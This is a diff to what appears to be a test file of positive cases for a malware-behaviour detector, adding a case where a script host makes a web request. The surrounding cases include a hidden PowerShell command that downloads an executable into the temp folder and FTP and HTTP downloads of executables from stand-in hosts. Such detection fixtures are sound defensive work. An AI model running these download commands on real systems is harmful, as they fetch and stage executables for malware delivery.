@@ -181,6 +181,8 @@ POSITIVE = [
     ("downloads_executable", [{"type": "ftp", "command": "RETR", "file": "stage2.exe", "dst": "203.0.113.1:21"}],
      CTX),
     ("script_host_downloads_executable", [payload("http://cdn.example/docs/dogovr2208.exe")], WSH),
+    ("script_host_web_request", [{"t": 1, "type": "http", "method": "GET", "url": "http://wgaaoebswculrdipagp.com/",
+                                  "dst": "198.18.0.1:80"}], WSH),
     ("lolbin_download", [wex("powershell -w hidden -c \"(New-Object Net.WebClient).DownloadFile('http://x.example/a.exe',"
                              "$env:TEMP+'\\a.exe')\"", image=r"C:\windows\system32\WindowsPowershell\v1.0\powershell.exe")],
      WSH),
